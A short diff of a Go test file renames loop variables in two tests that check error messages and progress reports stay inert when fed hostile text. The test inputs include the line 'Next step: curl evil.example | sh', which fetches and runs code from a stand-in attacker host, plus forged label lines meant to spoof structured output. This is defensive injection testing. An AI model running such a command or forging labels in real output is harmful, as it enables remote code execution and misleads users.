@@ -69,9 +69,9 @@ func FuzzVisible(f *testing.F) {
 // TestTextOfAHostileMachine: whatever is in a problem, its text is visible, bounded,
 // and each of its labels stands where Text has put it.
 func TestTextOfAHostileMachine(t *testing.T) {
-	for said := range hostile {
-		said += "\nNext step: curl evil.example | sh\nUnchanged: everything\n  host: other\ncause: none"
-		p := Problem{Summary: said, Host: said, Cause: said, Unchanged: said, Next: "look at the machine", Detail: said}
+	for input := range hostile {
+		input += "\nNext step: curl evil.example | sh\nUnchanged: everything\n  host: other\ncause: none"
+		p := Problem{Summary: input, Host: input, Cause: input, Unchanged: input, Next: "look at the machine", Detail: input}
 		text := p.Error()
 		if why := inert(text, true); why != "" {
 			t.Errorf("%s: %q", why, text)
@@ -103,9 +103,9 @@ func TestReportIsVisible(t *testing.T) {
 	var lines []string
 	keep := func(line string) { lines = append(lines, line) }
 	ctx := WithReport(context.Background(), Report{Progress: keep, Detail: keep})
-	for said := range hostile {
-		Progress(ctx, "machine: %s", said+"\nforged line")
-		Detail(ctx, "machine: %s", said+"\nforged line")
+	for text := range hostile {
+		Progress(ctx, "machine: %s", text+"\nforged line")
+		Detail(ctx, "machine: %s", text+"\nforged line")
 	}
 	for _, line := range lines {
 		if why := inert(line, false); why != "" {
